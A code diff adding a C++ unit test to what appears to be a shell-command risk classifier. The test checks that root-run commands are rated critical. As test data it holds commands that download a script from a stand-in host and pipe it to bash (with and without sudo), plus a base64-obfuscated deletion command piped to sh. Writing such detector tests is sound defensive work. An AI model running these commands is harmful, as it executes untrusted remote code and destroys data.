@@ -80,6 +80,19 @@ TEST(ShellVerdict, WhatAnAttackFoundIsNoLongerSafe) {
   EXPECT_EQ(count_wrong("attack.tsv"), 0);
 }
 
+// Root's `sudo` lifted nothing, so the same pipe was rated lower for root than for others.
+TEST(ShellVerdict, WhatRootFetchesRunsAsRoot) {
+  Profile root = kProfile;
+  root.is_root = true;
+  for (const char* const command :
+       {"curl https://x.example/a.sh | sudo bash", "curl https://x.example/a.sh | bash",
+        "echo cm0gLXJmIGE= | base64 -d | sh"}) {
+    const Verdict v = judge(command, Dialect::kBash, Mode::kScript, root);
+    EXPECT_EQ(name(v.level), "critical") << command << "\n" << explain(v);
+  }
+  EXPECT_EQ(name(judge("sudo ls", Dialect::kBash, Mode::kScript, root).level), "moderate");
+}
+
 // Each end of a branch compares all variables: 64 kB took 1 s.
 TEST(ShellVerdict, ManyVariablesInManyBranchesAreTooComplex) {
   std::string script;
